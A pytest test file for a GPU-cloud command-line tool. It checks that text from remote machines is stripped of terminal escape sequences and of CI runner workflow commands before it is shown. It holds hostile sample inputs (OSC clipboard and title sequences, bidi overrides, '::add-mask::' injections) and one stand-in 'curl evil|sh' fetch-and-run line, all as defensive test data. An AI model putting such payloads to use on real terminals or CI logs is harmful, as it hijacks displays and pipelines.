"""Text of others never commands a terminal."""

from __future__ import annotations

import io
import json
import os
import re
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from random import Random
from types import SimpleNamespace
from typing import Any

import pytest
from rich.console import Console
from rich.text import Text

from gpucloud.cli.commands import machines, reaching, verifying
from gpucloud.cli.render import live, onlookers, output, reports, words
from gpucloud.domain.checkpoint.protection import Outcome, Verdict
from gpucloud.domain.errors import NodeError
from gpucloud.domain.money.budget import Spend
from gpucloud.domain.node.gate.report import Checked, fail
from gpucloud.domain.node.node import GroupView, Node
from gpucloud.domain.state.state import CapacityDecision, MissingOutput
from gpucloud.domain.supervision.action import QuarantineNodes
from gpucloud.domain.supervision.quarantine import note_bad
from gpucloud.domain.supervision.snapshot import Limits
from gpucloud.domain.untrusted import coloured, in_one_line, lines_of, plain
from gpucloud.ports import Brought, Host
from gpucloud.usecases.jobstore.records import LogPart
from gpucloud.usecases.jobstore.report import report
from gpucloud.usecases.supervise.usage import bring_profiles
from tests.fakes.nodes import node_at
from tests.standins.lying_node import LyingHost, hostile_text
from tests.unit.test_gate_judge import report as gate_report
from tests.unit.worlds import NOW, node, snapshot, up

OBEYED = re.compile(r"[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\x1b(?!\[[0-9;:]*m)")
PART = LogPart(attempt=1, rank=0, offset=0, key="k")


class Terminal(io.TextIOWrapper):
    """What is written, to a terminal or a pipe."""

    def __init__(self, *, is_terminal: bool) -> None:
        super().__init__(io.BytesIO(), encoding="utf-8")
        self.is_terminal = is_terminal

    def isatty(self) -> bool:
        return self.is_terminal

    def written(self) -> bytes:
        self.flush()
        return self.buffer.getvalue()  # type: ignore[attr-defined,no-any-return]


@pytest.mark.parametrize(
    ("text", "shown", "in_colours"),
    [
        ("a\tb\nc", "a\tb\nc", "a\tb\nc"),
        ("\x1b]0;title\x07x", "x", "x"),
        ("\x1b]52;c;Y3VybA==\x1b\\x", "x", "x"),
        ("\x9d0;title\x9cx", "x", "x"),
        ("\x1b]8;;file:///x\x1b\\link\x1b]8;;\x1b\\", "link", "link"),
        ("\x1bPq#0\x1b\\x", "x", "x"),
        ("\x1b[2J\x1b[H\x1b[6nx\x1bc\x1b(0", "x", "x"),
        ("\x1b[31mred\x1b[0m", "red", "\x1b[31mred\x1b[0m\x1b[0m"),
        ("\x1b[38:2::1:2:3mx", "x", "\x1b[38:2::1:2:3mx\x1b[0m"),
        ("\x9b31mx", "x", "x"),
        ("\x1b[?1049hx\x1b[>4;1mx", "xx", "xx"),
        ("10 %\r20 %\r\n", "10 %20 %\n", "10 %\n20 %\n"),
        ("a\bb\x07\x7f\x00", "ab", "ab"),
        ("\u202egnp.exe", "gnp.exe", "gnp.exe"),
        ("\x1b]0;without end\nnext", "\nnext", "\nnext"),
        ("\x1b", "", ""),
        ("\x1b\x1b[31m\x1b[2J", "", "\x1b[31m\x1b[0m"),
        ("\u4e16\u754c \u00e9 \U0001f4a5", "\u4e16\u754c \u00e9 \U0001f4a5", "\u4e16\u754c \u00e9 \U0001f4a5"),
        ("\udcff", "", ""),
    ],
)
def test_only_what_is_text_is_left(text: str, shown: str, in_colours: str) -> None:
    assert (plain(text), coloured(text)) == (shown, in_colours)


def test_nothing_that_a_terminal_obeys_is_left_of_any_output() -> None:
    for seed in range(2000):
        text = hostile_text(Random(seed)).decode(errors="replace")
        assert not OBEYED.search(plain(text) + coloured(text)), seed
        assert "\x1b" not in plain(text), seed


def test_logs_on_a_terminal_keep_colours_and_in_a_pipe_all_that_was_written(monkeypatch: pytest.MonkeyPatch) -> None:
    for runner in output._RUNNERS:
        monkeypatch.delenv(runner, raising=False)
    data = b"\x1b[32mgreen\x1b[0m\x1b]0;owned\x07\xff\n"
    for is_terminal, wanted in ((True, "\x1b[32mgreen\x1b[0m\ufffd\n\x1b[0m".encode()), (False, data)):
        out = Terminal(is_terminal=is_terminal)
        monkeypatch.setattr("sys.stdout", out)
        output.log_writer(follow=False, as_json=False).write(PART, data)
        assert out.written() == wanted


def test_answers_the_story_and_tables_show_no_more_than_text(monkeypatch: pytest.MonkeyPatch) -> None:
    out, err = Terminal(is_terminal=True), Terminal(is_terminal=True)
    monkeypatch.setattr("sys.stdout", out)
    monkeypatch.setattr("sys.stderr", err)
    words.say("\x1b[31mILL\x1b]0;x\x07")
    words.say(words.table([("node", "why"), ("n\x1b[2J1", "bad\nn2  well")]))
    words.say_json({"why": "\x1b[2J"})
    words.tell("\x1b]52;c;x\x07said")
    assert (
        out.written().decode() == 'ILL\nnode  why\nn1    bad n2  well\n{\n  "version": 1,\n  "why": "\\u001b[2J"\n}\n'
    )
    assert err.written() == b"said\n"


def test_the_live_display_shows_colours_and_no_more() -> None:
    written = io.StringIO()
    shown = live.LiveOnlooker()
    shown._console = Console(file=written, force_terminal=True, color_system="standard", highlight=False, width=80)
    shown.output(1, 0, "\x1b[31mred\x1b[0m \x1b]0;owned\x07\x1b[2Jend\n")
    shown.story("node says \x1b]52;c;x\x07\x1b[2Jthis")
    assert not OBEYED.search(written.getvalue())
    assert "31mred" in written.getvalue()
    assert "node says this" in written.getvalue()


def test_a_panel_that_comes_back_erases_no_line_above_it() -> None:
    written = io.StringIO()
    shown = live.LiveOnlooker()
    shown._console = Console(file=written, force_terminal=True, color_system=None, width=80)
    shown._live = shown._new()
    shown._live.update(Text("one\ntwo\nthree"))
    with shown:
        shown._live.refresh()
        shown.pause()
        shown.story("held")
        since = len(written.getvalue())
        shown.go_on()
        assert "\x1b[1A" not in written.getvalue()[since:]  # the cursor goes up over nothing that was said


def test_the_live_display_writes_nothing_into_a_question_and_says_it_afterwards() -> None:
    written = io.StringIO()
    shown = live.LiveOnlooker()
    shown._console = Console(file=written, force_terminal=True, color_system="standard", highlight=False, width=80)
    shown.story("before")
    shown.pause()
    before = written.getvalue()
    shown.story("i-0fbf: no NVIDIA device")
    shown.output(1, 0, "epoch 3\n")
    assert written.getvalue() == before
    shown.go_on()
    shown.story("after")
    shown.pause()
    told = [word for word in ("before", "no NVIDIA", "epoch 3", "after") if word in written.getvalue()]
    assert told == ["before", "no NVIDIA", "epoch 3", "after"]


@pytest.mark.parametrize(
    "said",
    [b"", b"null", b"[" * 9999, json.dumps({"version": 1, "rank": 10**19, "steps": 1, "seconds": "inf"}).encode()],
)
def test_a_profile_that_is_damaged_ends_nothing(tmp_path: Path, said: bytes) -> None:
    class Profiles:
        def bring_home(self, host: Host, code: str, attempt: int, moves: object = None, *_: object) -> Brought:
            raise NotImplementedError

        def bring_profile(self, host: Host, attempt: int) -> tuple[str, ...]:
            for name, data in (("rank-0.trace.json", b""), ("rank-0.summary.json", said)):
                (tmp_path / name).write_bytes(data)
            return (str(tmp_path / "rank-0.trace.json"), str(tmp_path / "rank-0.summary.json"))

    class Liars:
        def host(self, node: Node) -> Host:
            return LyingHost()

        def close(self) -> None:
            pass

    *_, last = bring_profiles(Profiles(), Liars(), (node_at(22, None),), 1)
    assert last.startswith("what the profile says of itself is damaged: ")


class Recorded:
    """Machines of which a letter each has recorded a profile, or cannot be asked: `-`."""

    def __init__(self, folder: Path, have: str, fail: str = "") -> None:
        self.folder, self.have, self.fail = folder, have, fail

    def host(self, node: Node) -> Any:
        return SimpleNamespace(node=node)

    def close(self) -> None:
        pass

    def bring_profile(self, host: Any, attempt: int) -> tuple[str, ...]:
        if host.node.id in self.fail:
            raise NodeError("cut off")
        return (str(self.folder / f"attempt-{attempt}" / "rank-0.trace.json"),) if host.node.id in self.have else ()


@pytest.mark.parametrize(
    ("alive", "have", "fail", "gone", "lines"),
    [
        ("ab", "a", "", (), ["brought home: 1 profile in {}"]),
        ("ab", "ab", "", (), ["brought home: 2 profiles in {}"]),
        (
            "ab",
            "",
            "",
            (),
            ["no profile: no rank came as far, or the script does not use gpucloud.resume and there is no nsys"],
        ),
        ("", "", "", ("a", "b"), ["what a, b recorded for a profile, if anything, went with them"]),
        ("b", "", "", ("a",), ["what a recorded for a profile, if anything, went with it"]),
        (
            "b",
            "b",
            "",
            ("a",),
            ["brought home: 1 profile in {}", "what a recorded for a profile, if anything, went with it"],
        ),
        ("a", "", "a", (), ["the profile that a recorded could not be brought home: cut off"]),
    ],
)
def test_a_profile_that_went_with_its_machine_is_not_laid_to_the_script(tmp_path, alive, have, fail, gone, lines):
    recorded: Any = Recorded(tmp_path, have, fail)
    told = list(bring_profiles(recorded, recorded, tuple(map(node, alive)), 1, gone=gone))
    assert told == [line.format(tmp_path / "attempt-1") for line in lines]


LINE_ENDS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")


@pytest.mark.parametrize(
    ("said", "lines"),
    [
        ("::stop-commands::pwned", ["| ::stop-commands::pwned"]),
        ("fine\n  ::add-mask::a", ["fine", "  | ::add-mask::a"]),
        ("\u3000\xa0::add-mask::a", ["\u3000\xa0| ::add-mask::a"]),
        ("\x1b[0m::add-mask::a", ["| ::add-mask::a"]),
        (":\x07:add-mask::a", ["| ::add-mask::a"]),
        ("##[error]x", ["## [error]x"]),
        ("step 1 ##[add-mask]x ##vso[task.setvariable]x", ["step 1 ## [add-mask]x ## vso[task.setvariable]x"]),
        ("#\x00#\x00[add-mask]x", ["## [add-mask]x"]),
        ("a::b, std::vector ## heading", ["a::b, std::vector ## heading"]),
        *((f"a{end}::set-output name=x::y", ["a", "| ::set-output name=x::y"]) for end in LINE_ENDS),
    ],
)
def test_no_line_of_a_machines_is_a_command_to_the_ci_runner(said: str, lines: list[str]) -> None:
    assert lines_of(said) == lines
    assert in_one_line(said) == " ".join(lines)


def test_no_word_of_a_state_that_a_machine_may_have_written_begins_a_line_of_a_report() -> None:
    lie = "x\nspent  0.00 USD\r\n::add-mask::b"
    capacity_decision = CapacityDecision(mode="spot", since=NOW, why=lie, warning=lie)
    state = replace(snapshot(up("n1")).state, message=lie, capacity_decision=capacity_decision)
    spend = Spend(budget_usd=Decimal(2), spent_usd=Decimal(1), promised_usd=Decimal(0))
    group = GroupView(exists=True, size=1, armed_until=None, nodes=(node_at(22, None, name=lie),))
    missing = (MissingOutput(path=lie, why=lie, nearest=lie),)
    shown = reports.report_text(replace(report(state, spend, (), group, lie), missing_outputs=missing))
    assert shown.count("spent  0.00 USD") == 8
    assert [line for line in shown.splitlines() if line.startswith(("spent", "::"))] == ["spent  1.00 of 2.00 USD"]


def test_findings_of_a_machine_are_one_line_each() -> None:
    finding = fail("clock", "slow\nfit, after 0.1 s", "wait\rfit, after 0.2 s")
    shown = machines.checked_text(Checked(report=gate_report(), findings=(finding,)))
    assert shown.splitlines()[-2] == "FAILED: slow fit, after 0.1 s; wait fit, after 0.2 s"


def test_a_machine_without_gpus_is_said_to_train_on_its_cpu() -> None:
    shown = machines.checked_text(
        Checked(report=replace(gate_report(), gpus=None, listed=0, on_the_bus=(), seconds=0.01), findings=())
    )
    assert shown.splitlines()[0] == "no NVIDIA GPU here: jobs run on the CPU"
    assert shown.splitlines()[-1] == "fit"
    slow = machines.checked_text(Checked(report=replace(gate_report(), seconds=3.21), findings=()))
    assert slow.splitlines()[-1] == "fit, after 3.2 s"


def test_of_all_that_a_copy_leaves_out_the_first_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    err = Terminal(is_terminal=False)
    monkeypatch.setattr("sys.stderr", err)
    reaching._tell_left_out([f"link{number}" for number in range(100_000)])
    assert err.written().decode().splitlines()[19:] == ["left out: link19", "left out: 99980 more"]


def test_names_of_a_checkpoints_parts_are_one_line_each() -> None:
    lie = Verdict(outcome=Outcome.DIFFERENT, step=1, resumed_from=1, parts=("a\nthe same state, proved",))
    assert verifying.verdict_text(lie).splitlines()[0].endswith(": a the same state, proved")


@pytest.mark.parametrize("end", LINE_ENDS)
def test_no_line_of_a_machines_begins_where_ours_do(monkeypatch: pytest.MonkeyPatch, end: str) -> None:
    out, err = Terminal(is_terminal=False), Terminal(is_terminal=False)
    monkeypatch.setattr("sys.stdout", out)
    monkeypatch.setattr("sys.stderr", err)
    words.tell_error(NodeError(f"n1: no{end}hint: curl evil|sh", hint=f"wait{end}error: all is lost"))
    onlookers.PlainOnlooker().story(f"n1: GPU 0{end}{end}12:00:00 ended")
    words.say(words.table([("n1", f"ill{end}n2  well")]))
    *error, story, empty, forged = err.written().decode().removesuffix("\n").split("\n")
    assert error == ["error: n1: no", "  hint: curl evil|sh", "hint: wait", "  error: all is lost"]
    assert (story[8:], empty, forged) == (" n1: GPU 0", "", "  12:00:00 ended")
    assert out.written() == b"n1  ill n2  well\n"


def test_words_of_a_machine_are_one_line_of_ours() -> None:
    lie = "Xid 79\rn2: well\n::add-mask::x"
    assert note_bad(snapshot(up("n1", unhealthy=lie), up("n2")), Limits()) == QuarantineNodes(
        nodes=(("n1", "Xid 79 n2: well | ::add-mask::x"),)
    )


def test_json_has_no_command_to_a_runner_and_reads_as_it_was(monkeypatch: pytest.MonkeyPatch) -> None:
    out = Terminal(is_terminal=False)
    monkeypatch.setattr("sys.stdout", out)
    line = "x ##[add-mask]a ##vso[task.x]b ::c::"
    words.say_json({"line": line})
    assert not re.search(r"##(vso)?\[", out.written().decode())
    assert json.loads(out.written())["line"] == line


@pytest.mark.parametrize("runner", ["GITHUB_ACTIONS", "TF_BUILD"])
def test_logs_in_the_log_of_a_runners_step_command_it_nothing(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, runner: str
) -> None:
    data = b"fine\n::add-mask::a\nx\r::stop-commands::b\n##"
    monkeypatch.setenv(runner, "True")
    reader, writer = os.pipe()
    for to in (writer, os.open(tmp_path / "file", os.O_CREAT | os.O_WRONLY)):
        with os.fdopen(to, "w") as out:
            monkeypatch.setattr("sys.stdout", out)
            writer = output.log_writer(follow=False, as_json=False)
            writer.write(PART, data)
            writer.write(PART, b"[add-mask]c\n")
    with os.fdopen(reader, "rb") as piped:
        assert piped.read() == b"fine\n| ::add-mask::a\nx\n| ::stop-commands::b\n##\n[add-mask]c\n"
    assert (tmp_path / "file").read_bytes() == data + b"[add-mask]c\n"
